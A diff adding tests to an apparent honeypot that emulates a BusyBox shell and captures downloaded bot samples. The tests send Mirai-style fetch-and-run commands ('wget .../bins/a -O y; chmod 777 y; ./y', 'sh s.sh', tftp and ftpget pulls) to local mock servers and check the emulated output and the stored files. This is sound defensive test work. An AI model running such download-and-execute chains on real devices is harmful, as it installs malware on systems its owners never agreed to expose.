@@ -350,3 +350,198 @@ def test_fetch_config_errors():
     d = Daemon(extra=["config fetch 'fetch'", "\tlist allow '10.0.0.0/33'"])
     p = subprocess.run([d.binary, "check", "-c", d.conf], capture_output=True, text=True)
     assert p.returncode == 2 and "allow must be" in p.stderr, p.stderr
+
+
+# ---- the shell waits for its downloads (issue #4 follow-up) ----
+
+def meter(name, size):
+    """BusyBox 1.1x wget's last status line on an 80-column terminal."""
+    return b"\r%-20s 100%% |%s|%6d  --:--:-- ETA\r\n" % (name.encode(), b"*" * 31, size)
+
+
+def test_fetch_shell_waits_and_vfs():
+    """wget/tftp then chmod/ls/cat/sh on the fetched file, in one line:
+    BusyBox's success output, the file in the session's fs at its size,
+    the sample in the store; a line typed meanwhile runs afterwards."""
+    bot = payload("w", 5000)
+    script = b"echo fetched-and-run\n"
+    http = fetchsrv.http_server({"/bins/a": ("file", bot), "/s.sh": ("file", script),
+                                 "/late": ("slow", (1.5, payload("late", 700)))})
+    tftp = fetchsrv.Tftp({"t.bin": payload("t", 1300)})
+    dns = fetchsrv.Dns({})
+    hp = http.server_address[1]
+    try:
+        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
+            c = shell(d)
+            out = mirai.token_cmd(c, "cd /tmp; wget http://127.0.0.1:%d/bins/a -O y; "
+                                  "chmod 777 y; ls -l y; ./y" % hp)
+            assert b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n" % (hp, hp) in out, out
+            assert meter("y", 5000) in out, out
+            assert b"-rwxrwxrwx" in out and b" 5000 " in out, out
+            assert b"wget:" not in out, out
+            out = mirai.token_cmd(c, "wget http://127.0.0.1:%d/s.sh && cat s.sh && sh s.sh" % hp)
+            assert meter("s.sh", len(script)) in out, out
+            assert out.count(b"echo fetched-and-run") == 1, out
+            assert b"\r\nfetched-and-run\r\n" in out, out
+            # tftp: silent on success
+            out = mirai.token_cmd(c, "/bin/busybox tftp -g -l t -r t.bin 127.0.0.1 %d; ls -l t"
+                                  % tftp.port)
+            assert b"tftp:" not in out and b" 1300 " in out, out
+            # a line typed while the shell waits runs after it, in order
+            c.send("wget http://127.0.0.1:%d/late -O late\r\necho typed-meanwhile\r\n" % hp)
+            out = c.read_until(b"# typed-meanwhile\r\n", 12)
+            done = b"\rlate                 100% |" + b"*" * 31 + b"|   700  "
+            assert out.index(done) < out.index(b"# typed-meanwhile\r\n"), out
+            mirai.read_prompt(c)
+            c.close()
+            files = d.files()
+            for body in (bot, script, payload("t", 1300), payload("late", 700)):
+                assert files.get(hashlib.sha256(body).hexdigest()) == body
+            evs = d.events()
+            # stored by the fetcher: chmod and the run capture nothing again
+            caps = [e for e in by_id(evs, "cowrie.session.file_download")
+                    if e.get("reason") in ("chmod", "exec")]
+            assert not caps, caps
+    finally:
+        http.shutdown()
+        tftp.close()
+        dns.close()
+
+
+def test_fetch_shell_failure_texts():
+    """404, refused, unknown name, timeout: BusyBox's own words, and the
+    rest of the line goes on (|| sees the failure)."""
+    http = fetchsrv.http_server({"/drip": ("drip", None)})
+    tftp = fetchsrv.Tftp({"silent.bin": "silent"})
+    dns = fetchsrv.Dns({})
+    hp = http.server_address[1]
+    closed = tt.free_port()
+    try:
+        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port, timeout_s=3)) as d:
+            c = shell(d)
+            out = mirai.token_cmd(c, "cd /tmp; wget http://127.0.0.1:%d/nope || echo failed-ok" % hp)
+            assert (b"Connecting to 127.0.0.1:%d (127.0.0.1:%d)\r\n"
+                    b"wget: server returned error: HTTP/1.1 404 Not Found\r\nfailed-ok\r\n"
+                    % (hp, hp)) in out, out
+            out = mirai.token_cmd(c, "wget http://127.0.0.1:%d/x" % closed)
+            assert (b"wget: can't connect to remote host (127.0.0.1): Connection refused\r\n"
+                    in out), out
+            out = mirai.token_cmd(c, "wget http://nx.test/x")
+            assert b"wget: bad address 'nx.test'\r\n" in out, out
+            assert b"Connecting" not in out
+            out = mirai.token_cmd(c, "wget http://127.0.0.1:%d/drip" % hp, timeout=15)
+            assert b"wget: download timed out\r\n" in out, out
+            out = mirai.token_cmd(c, "tftp -g -r missing.bin 127.0.0.1 %d" % tftp.port)
+            assert b"tftp: server error: (1) File not found\r\n" in out, out
+            out = mirai.token_cmd(c, "tftp -g -r silent.bin 127.0.0.1 %d" % tftp.port,
+                                  timeout=15)
+            assert b"tftp: timeout\r\n" in out, out
+            out = mirai.token_cmd(c, "ls")
+            for name in (b"nope", b"drip", b"missing.bin", b"silent.bin"):
+                assert name not in out, out
+            c.close()
+    finally:
+        http.shutdown()
+        tftp.close()
+        dns.close()
+
+
+def test_fetch_ftpget_login():
+    """ftpget -u/-p log in with what they were given; a wrong password is
+    BusyBox's `unexpected server response`."""
+    body = payload("ftp", 3000)
+    ftp = fetchsrv.Ftp({"bins/g.bin": body}, users={"bob": "s3cret"})
+    dns = fetchsrv.Dns({})
+    try:
+        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
+            c = shell(d)
+            out = mirai.token_cmd(c, "cd /tmp; ftpget -u bob -p s3cret -P %d 127.0.0.1 g "
+                                  "bins/g.bin; ls -l g" % ftp.port)
+            assert b"ftpget:" not in out and b" 3000 " in out, out
+            assert "USER bob" in ftp.log and "PASS s3cret" in ftp.log, ftp.log
+            out = mirai.token_cmd(c, "ftpget -u bob -p wrong -P %d 127.0.0.1 h bins/g.bin"
+                                  % ftp.port)
+            assert (b"ftpget: unexpected server response to PASS: 530 Login incorrect.\r\n"
+                    in out), out
+            c.close()
+            assert d.files().get(hashlib.sha256(body).hexdigest()) == body
+            reqs = by_id(d.wait_events(lambda e: len(by_id(e, "tanuki.download.request")) >= 2),
+                         "tanuki.download.request")
+            assert any(r.get("username") == "bob" and r.get("password") == "s3cret"
+                       for r in reqs), reqs
+    finally:
+        ftp.close()
+        dns.close()
+
+
+def _persona_with_curl(tmp):
+    """zyxel-pk5001z with curl added to its applets (no shipped persona
+    has curl; the shell's curl is tested through this copy)."""
+    import shutil
+    src = os.path.join(tt.TOP, "personas", "zyxel-pk5001z")
+    dst = os.path.join(tmp, "zyxel-curl")
+    shutil.copytree(src, dst, symlinks=True)
+    path = os.path.join(dst, "persona")
+    with open(path) as f:
+        text = f.read()
+    i = text.index("option applets '")
+    j = text.index("'", i + len("option applets '"))
+    with open(path, "w") as f:
+        f.write(text[:j] + " curl" + text[j:])
+    return tmp
+
+
+def test_fetch_curl():
+    import tempfile
+    body = payload("curl", 4000)
+    http = fetchsrv.http_server({"/bins/c": ("file", body)})
+    dns = fetchsrv.Dns({})
+    hp = http.server_address[1]
+    tmp = tempfile.mkdtemp(prefix="tanuki-personas-")
+    try:
+        pdir = _persona_with_curl(tmp)
+        with Daemon(persona="zyxel-curl", main={"personas": pdir},
+                    extra=fetch_conf(dns.port)) as d:
+            info = tt.persona_info("zyxel-pk5001z")
+            user, pw, _ = info["creds"][0]
+            c = Conn(d.port)
+            mirai.login(c, user, pw)
+            mirai.enter_shell(c)
+            out = mirai.token_cmd(c, "cd /tmp; curl -o c http://127.0.0.1:%d/bins/c; ls -l c" % hp)
+            assert b"  % Total    % Received % Xferd" in out, out
+            assert b"\r100  4000  100  4000    0     0" in out, out
+            assert b" 4000 " in out.split(b"Speed\r\n")[-1], out
+            out = mirai.token_cmd(c, "curl -s -O http://127.0.0.1:%d/bins/c; ls -l c" % hp)
+            assert b"% Total" not in out and b" 4000 " in out, out
+            out = mirai.token_cmd(c, "curl http://127.0.0.1:%d/x; echo rc=$?" % tt.free_port())
+            assert b"curl: (7) Failed to connect to 127.0.0.1 port" in out, out
+            assert b"Connection refused\r\nrc=7\r\n" in out, out
+            c.close()
+            assert d.files().get(hashlib.sha256(body).hexdigest()) == body
+    finally:
+        http.shutdown()
+        dns.close()
+        import shutil
+        shutil.rmtree(tmp, ignore_errors=True)
+
+
+def test_fetch_session_ends_while_waiting():
+    """The peer leaves while its shell waits: no crash, no leak (ASan), and
+    the fetch still ends and stores the sample."""
+    late = payload("gone", 900)
+    http = fetchsrv.http_server({"/late": ("slow", (1.5, late))})
+    dns = fetchsrv.Dns({})
+    hp = http.server_address[1]
+    try:
+        with Daemon(persona=PERSONA, extra=fetch_conf(dns.port)) as d:
+            c = shell(d)
+            c.send("wget http://127.0.0.1:%d/late; echo never\r\n" % hp)
+            time.sleep(0.3)
+            c.close()
+            sha = hashlib.sha256(late).hexdigest()
+            d.wait_events(lambda e: any(x.get("shasum") == sha for x in e), 10)
+            assert d.files().get(sha) == late
+            login_works(d)
+    finally:
+        http.shutdown()
+        dns.close()
